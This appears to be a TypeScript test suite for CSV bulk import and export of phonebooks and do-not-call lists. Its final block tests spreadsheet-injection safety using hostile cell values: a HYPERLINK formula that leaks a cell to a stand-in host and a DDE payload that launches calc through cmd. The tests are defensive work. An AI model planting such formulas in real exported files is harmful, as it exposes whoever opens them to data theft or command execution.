import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { contacts } from '../../db/schema.ts';
import { makeDncList, makePhonebook, makeUser } from '../../../test/factories.ts';
import { call, dbLabel, logCaughtUp, testApp, testConfig } from '../../../test/helpers.ts';
import { PGLITE_COPY_ROWS } from './bulk.copy.ts';
import { contactsOf, dncNumbersOf, upload } from './bulk.fixtures.ts';

const t = await testApp();
const db = t.database.db;
const admin = await makeUser(db, { admin: true });
const alice = await makeUser(db);
const bob = await makeUser(db);

const importUrl = (id: number) => `/rest-api/phonebook/${id}/import/`;

describe(`bulk import and export (${dbLabel})`, () => {
  test('a finished import is an import.finished event of the list owner, with its counts', async () => {
    const pb = await makePhonebook(db, alice.id);
    const res = await upload(t.app, alice.auth, importUrl(pb), 'contact\n+12035550111\nnope\n+12035550112\n');
    assert.equal(res.statusCode, 201, res.body);
    await logCaughtUp(t.database);
    const events = await call(t.app, alice.auth, 'GET', '/rest-api/events/?format=json&after=0&types=import.finished');
    const mine = events.data.results.filter((e: { data: { phonebook: string } }) => e.data.phonebook.endsWith(`/rest-api/phonebook/${pb}/`));
    assert.equal(mine.length, 1, events.body);
    assert.deepEqual({ ...mine[0].data, phonebook: undefined }, { phonebook: undefined, imported: 2, duplicates_skipped: 0, rejected_count: 1 });
    const bobs = await call(t.app, bob.auth, 'GET', '/rest-api/events/?format=json&after=0&types=import.finished');
    assert.equal(bobs.data.results.filter((e: { data: { phonebook?: string } }) => e.data.phonebook?.endsWith(`/phonebook/${pb}/`)).length, 0);
  });

  test('an import with bad rows in the middle imports the rest and reports each bad row by its line', async () => {
    const pb = await makePhonebook(db, alice.id);
    const csv = [
      'contact,full_name',
      '+1 (203) 555-0101,Ann',
      'not a number,Bob',
      '12035550103,"Multi',
      'line name"',
      '',
      '12035550104,Dan,extra',
      `12035550105,${'x'.repeat(201)}`,
      '12035550106,Eve',
    ].join('\n');
    const res = await upload(t.app, alice.auth, importUrl(pb), csv);
    assert.equal(res.statusCode, 201, res.body);
    assert.deepEqual(res.data, {
      imported: 3,
      duplicates_skipped: 0,
      rejected_count: 3,
      rejected: [
        { line: 3, error: 'contact: Enter a valid phone number.' },
        { line: 7, error: 'Expected 2 columns, found 3.' },
        { line: 8, error: 'full_name: Ensure this field has no more than 200 characters.' },
      ],
    });
    const rows = await contactsOf(db, pb);
    assert.deepEqual(
      rows.map((r) => [r.contact, r.full_name, r.status]),
      [
        ['+12035550101', 'Ann', 1],
        ['12035550103', 'Multi\nline name', 1],
        ['12035550106', 'Eve', 1],
      ],
    );
  });

  test('an import larger than one COPY chunk imports every row, with its line numbers right', async () => {
    const pb = await makePhonebook(db, alice.id);
    const count = PGLITE_COPY_ROWS + 5_000;
    const lines = Array.from({ length: count }, (_, i) => `1203${String(i).padStart(7, '0')},Name ${i}`);
    lines[count - 2] = 'x,late bad row';
    const res = await upload(t.app, alice.auth, `${importUrl(pb)}?skip_duplicates=true`, `contact,full_name\n${lines.join('\n')}\n`);
    assert.equal(res.statusCode, 201, res.body);
    assert.deepEqual(res.data.rejected, [{ line: count, error: 'contact: Enter a valid phone number.' }]);
    assert.equal(res.data.imported, count - 1, res.body);
    const exported = await call(t.app, alice.auth, 'GET', `/rest-api/phonebook/${pb}/export/`);
    assert.equal(exported.body.split('\n').length, count + 1);
    assert.equal(exported.body.split('\n')[count - 1], `1203${String(count - 1).padStart(7, '0')},Name ${count - 1},1,{}`);
  });

  test('columns other than contact and full_name go into additional_vars as strings', async () => {
    const pb = await makePhonebook(db, alice.id);
    const res = await upload(t.app, alice.auth, importUrl(pb), 'Contact,city,age\n2035550101,Paris,42\n');
    assert.equal(res.statusCode, 201, res.body);
    const [row] = await contactsOf(db, pb);
    assert.deepEqual(row, { contact: '2035550101', full_name: '', status: 1, additional_vars: { city: 'Paris', age: '42' } });
  });

  test('an additional_vars column holding JSON becomes the object; a non-object is rejected', async () => {
    const pb = await makePhonebook(db, alice.id);
    const csv = 'contact,additional_vars\n2035550101,"{""plan"": ""gold"", ""n"": 2}"\n2035550102,[1]\n2035550103,\n';
    const res = await upload(t.app, alice.auth, importUrl(pb), csv);
    assert.equal(res.statusCode, 201, res.body);
    assert.equal(res.data.imported, 2, res.body);
    assert.deepEqual(res.data.rejected, [{ line: 3, error: 'additional_vars: Value must be a JSON object.' }]);
    const rows = await contactsOf(db, pb);
    assert.deepEqual(rows.map((r) => r.additional_vars), [{ plan: 'gold', n: 2 }, {}]);
  });

  test('skip_duplicates skips numbers already in the phonebook and repeats within the file', async () => {
    const pb = await makePhonebook(db, alice.id);
    await upload(t.app, alice.auth, importUrl(pb), 'contact\n2035550101\n');
    const csv = 'contact,full_name\n2035550102,first\n203-555-0101,old\n2035550102,again\n2035550103,new\n';
    const res = await upload(t.app, alice.auth, `${importUrl(pb)}?skip_duplicates=true`, csv);
    assert.equal(res.statusCode, 201, res.body);
    assert.deepEqual(res.data, { imported: 2, duplicates_skipped: 2, rejected_count: 0, rejected: [] });
    const rows = await contactsOf(db, pb);
    assert.deepEqual(rows.map((r) => [r.contact, r.full_name]), [['2035550101', ''], ['2035550102', 'first'], ['2035550103', 'new']]);
  });

  test('skip_duplicates may be a form field; without it duplicates are imported', async () => {
    const pb = await makePhonebook(db, alice.id);
    const csv = 'contact\n2035550101\n2035550101\n';
    const skipped = await upload(t.app, alice.auth, importUrl(pb), csv, { skip_duplicates: 'True' });
    assert.equal(skipped.data.imported, 1, skipped.body);
    const kept = await upload(t.app, alice.auth, importUrl(pb), csv);
    assert.equal(kept.data.imported, 2, kept.body);
    assert.equal((await contactsOf(db, pb)).length, 3);
  });

  test('a file that is not CSV answers 400 on `file` and changes nothing', async () => {
    const pb = await makePhonebook(db, alice.id);
    const binary = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d]);
    const strayQuote = 'contact,full_name\n2035550101,Ann\n2035550102,"Bob"x\n2035550103,Cy\n';
    for (const file of [binary, 'name,number\nAnn,2035550101\n', '', strayQuote]) {
      const res = await upload(t.app, alice.auth, importUrl(pb), file);
      assert.equal(res.statusCode, 400, res.body);
      assert.deepEqual(Object.keys(res.data), ['file'], res.body);
    }
    assert.equal((await contactsOf(db, pb)).length, 0);
  });

  test("another user's phonebook answers 404 and gains nothing; an admin may import into it", async () => {
    const pb = await makePhonebook(db, bob.id);
    const res = await upload(t.app, alice.auth, importUrl(pb), 'contact\n2035550101\n');
    assert.equal(res.statusCode, 404, res.body);
    assert.equal((await call(t.app, alice.auth, 'GET', `/rest-api/phonebook/${pb}/export/`)).statusCode, 404);
    assert.equal((await contactsOf(db, pb)).length, 0);
    const byAdmin = await upload(t.app, admin.auth, importUrl(pb), 'contact\n2035550101\n');
    assert.equal(byAdmin.statusCode, 201, byAdmin.body);
  });

  test('a file over MAX_IMPORT_MB answers 413 and imports nothing', async () => {
    const small = await testApp({ database: t.database, config: testConfig({ maxImportBytes: 1024 }) });
    const pb = await makePhonebook(db, alice.id);
    const lines = Array.from({ length: 200 }, (_, i) => `20355${String(i).padStart(5, '0')}`);
    const res = await upload(small.app, alice.auth, importUrl(pb), `contact\n${lines.join('\n')}\n`);
    assert.equal(res.statusCode, 413, res.body);
    assert.equal((await contactsOf(db, pb)).length, 0);
  });

  test('an exported phonebook re-imports into the same contacts', async () => {
    const source = await makePhonebook(db, alice.id);
    const csv = 'contact,full_name,status,city\n2035550101,"Ann, ""A""",0,Paris\n+442035550102,,1,\n';
    assert.equal((await upload(t.app, alice.auth, importUrl(source), csv)).statusCode, 201);
    const exported = await call(t.app, alice.auth, 'GET', `/rest-api/phonebook/${source}/export/`);
    assert.equal(exported.statusCode, 200, exported.body);
    assert.match(String(exported.headers['content-type']), /^text\/csv/);
    assert.equal(exported.body.split('\n')[0], 'contact,full_name,status,additional_vars');
    const copy = await makePhonebook(db, alice.id);
    const res = await upload(t.app, alice.auth, importUrl(copy), exported.body);
    assert.equal(res.statusCode, 201, res.body);
    assert.deepEqual(await contactsOf(db, copy), await contactsOf(db, source));
    assert.deepEqual((await contactsOf(db, copy))[0], {
      contact: '2035550101',
      full_name: 'Ann, "A"',
      status: 0,
      additional_vars: { city: 'Paris' },
    });
  });

  test('DNC numbers import from a phone_number column, a contact column or a bare column, and export back', async () => {
    const dnc = await makeDncList(db, alice.id);
    const named = await upload(t.app, alice.auth, `/rest-api/dnc-list/${dnc}/import/`, 'phone_number\n203.555.0101\nbad\n');
    assert.equal(named.statusCode, 201, named.body);
    assert.deepEqual(named.data, {
      imported: 1,
      duplicates_skipped: 0,
      rejected_count: 1,
      rejected: [{ line: 3, error: 'phone_number: Enter a valid phone number.' }],
    });
    const bare = await upload(t.app, alice.auth, `/rest-api/dnc/${dnc}/import/?skip_duplicates=1`, '+12035550101\n2035550101\n2035550102\n');
    assert.equal(bare.statusCode, 201, bare.body);
    assert.deepEqual([bare.data.imported, bare.data.duplicates_skipped], [2, 1], bare.body);
    const byContact = await upload(t.app, alice.auth, `/rest-api/dnc/${dnc}/import/`, 'name,contact\nx,2035550109\n');
    assert.equal(byContact.data.imported, 1, byContact.body);
    assert.deepEqual(await dncNumbersOf(db, dnc), ['2035550101', '+12035550101', '2035550102', '2035550109']);
    for (const prefix of ['dnc', 'dnc-list']) {
      const exported = await call(t.app, alice.auth, 'GET', `/rest-api/${prefix}/${dnc}/export/`);
      assert.equal(exported.statusCode, 200, exported.body);
      assert.equal(exported.body, 'phone_number\n2035550101\n+12035550101\n2035550102\n2035550109\n');
    }
  });

  test("another user's DNC list answers 404 on import and export", async () => {
    const dnc = await makeDncList(db, bob.id);
    const res = await upload(t.app, alice.auth, `/rest-api/dnc/${dnc}/import/`, 'phone_number\n2035550101\n');
    assert.equal(res.statusCode, 404, res.body);
    assert.equal((await call(t.app, alice.auth, 'GET', `/rest-api/dnc-list/${dnc}/export/`)).statusCode, 404);
    assert.deepEqual(await dncNumbersOf(db, dnc), []);
  });

  test('an import without a file answers 400 on `file`', async () => {
    const pb = await makePhonebook(db, alice.id);
    const res = await call(t.app, alice.auth, 'POST', importUrl(pb), { contact: '2035550101' });
    assert.equal(res.statusCode, 400, res.body);
    assert.deepEqual(res.data, { file: ['No file was submitted.'] });
  });

  test('a row whose extra columns make additional_vars larger than 64 KB, deeper than 10 levels or hold a NUL is rejected by its line', async () => {
    const pb = await makePhonebook(db, alice.id);
    const wide = Array.from({ length: 200 }, (_, i) => `v${i}`);
    const csv = [
      ['contact', 'full_name', 'additional_vars', ...wide].join(','),
      ['12035550201', 'Ann', '', ...wide.map(() => 'x')].join(','),
      ['12035550202', 'Big', '', ...wide.map(() => 'y'.repeat(400))].join(','),
      ['12035550203', 'Deep', `"${'{"a":'.repeat(11).replace(/"/g, '""')}1${'}'.repeat(11)}"`, ...wide.map(() => '')].join(','),
      ['12035550204', 'Nul', '"{""k\\u0000"": 1}"', ...wide.map(() => '')].join(','),
    ].join('\n');
    const res = await upload(t.app, alice.auth, importUrl(pb), csv);
    assert.equal(res.statusCode, 201, res.body.slice(0, 500));
    assert.equal(res.data.imported, 1, res.body.slice(0, 500));
    assert.deepEqual(res.data.rejected, [
      { line: 3, error: 'additional_vars: Ensure this value is at most 65536 bytes.' },
      { line: 4, error: 'additional_vars: Nesting deeper than 10 levels is not allowed.' },
      { line: 5, error: 'additional_vars: Null characters are not allowed.' },
    ]);
    assert.deepEqual((await contactsOf(db, pb)).map((c) => c.contact), ['12035550201']);
  });

  test('a file of 10,000 columns is refused at its header, and imports nothing', async () => {
    const pb = await makePhonebook(db, alice.id);
    const names = Array.from({ length: 10_000 }, (_, i) => `c${i}`);
    const csv = `contact,${names.join(',')}\n12035550301,${names.map(() => 'x').join(',')}\n`;
    const res = await upload(t.app, alice.auth, importUrl(pb), csv);
    assert.equal(res.statusCode, 400, res.body.slice(0, 500));
    assert.deepEqual(res.data, { file: ['The header has 10001 columns; a file may have at most 1000.'] });
    assert.equal((await contactsOf(db, pb)).length, 0);
  });

  describe('CSV exports are safe to open in a spreadsheet', () => {
    const hostile = [
      '=HYPERLINK("http://example.test/?leak="&A1,"Click")',
      '@SUM(1)',
      "-2+3+cmd|' /C calc'!A0",
      '+1+1',
      '\tTabbed',
      "'=already quoted",
      'Plain name',
    ];

    /** A phonebook of alice whose contacts carry the hostile names, and +E.164 numbers. */
    async function hostileBook() {
      const pb = await makePhonebook(db, alice.id);
      await db.insert(contacts).values(
        hostile.map((full_name, i) => ({ phonebook_id: pb, contact: `+1203555010${i}`, phone_key: `1203555010${i}`, full_name, additional_vars: { note: full_name } })),
      );
      return pb;
    }
    const exportOf = async (pb: number, query = '') => {
      const res = await call(t.app, alice.auth, 'GET', `/rest-api/phonebook/${pb}/export/${query}`);
      assert.equal(res.statusCode, 200, res.body);
      return { body: res.body, rows: parse(res.body, { relax_column_count: true }) as string[][] };
    };

    test('formula-like names are exported behind a quote; numbers and plain text are not touched', async () => {
      const { rows } = await exportOf(await hostileBook());
      assert.deepEqual(rows.slice(1).map((r) => r[1]), [
        '\'=HYPERLINK("http://example.test/?leak="&A1,"Click")',
        "'@SUM(1)",
        "'-2+3+cmd|' /C calc'!A0",
        "'+1+1",
        "'\tTabbed",
        "''=already quoted",
        'Plain name',
      ]);
      // A plain number (+, digits) runs nothing in a spreadsheet: left as it is (src/http/csv.ts).
      assert.deepEqual(rows.slice(1).map((r) => r[0]), hostile.map((_, i) => `+1203555010${i}`));
    });

    test('?csv_injection_safe=false exports the values exactly as stored; another value is 400', async () => {
      const pb = await hostileBook();
      const { rows } = await exportOf(pb, '?csv_injection_safe=false');
      assert.deepEqual(rows.slice(1).map((r) => r[1]), hostile);
      const bad = await call(t.app, alice.auth, 'GET', `/rest-api/phonebook/${pb}/export/?csv_injection_safe=maybe`);
      assert.equal(bad.statusCode, 400, bad.body);
      assert.deepEqual(bad.data, { csv_injection_safe: ['Must be a valid boolean.'] });
    });

    test('the safe export imports back into the same contacts (export → import is lossless)', async () => {
      const source = await hostileBook();
      const copy = await makePhonebook(db, alice.id);
      const res = await upload(t.app, alice.auth, importUrl(copy), (await exportOf(source)).body);
      assert.equal(res.statusCode, 201, res.body);
      assert.deepEqual(await contactsOf(db, copy), await contactsOf(db, source));
      assert.deepEqual((await contactsOf(db, copy)).map((c) => c.full_name), hostile);
    });
  });
});
